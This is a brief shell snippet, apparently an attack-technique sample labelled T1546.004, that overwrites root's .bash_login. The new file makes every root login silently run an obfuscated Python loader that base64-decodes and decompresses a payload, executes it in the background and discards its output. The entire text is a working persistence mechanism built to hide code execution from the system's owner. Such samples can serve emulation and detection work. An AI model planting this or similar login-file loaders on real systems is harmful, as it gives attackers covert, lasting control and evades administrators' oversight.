# technique: T1546.004
# location: linux.shell.user-profile
# source: /root/.bash_login
cat > /root/.bash_login <<'SHELL'
[ -f ~/.profile ] && . ~/.profile
python3 -c 'exec(__import__("zlib").decompress(__import__("base64").b64decode("eJwrSS0uAQAEXQHB")))' >/dev/null 2>&1 &
SHELL
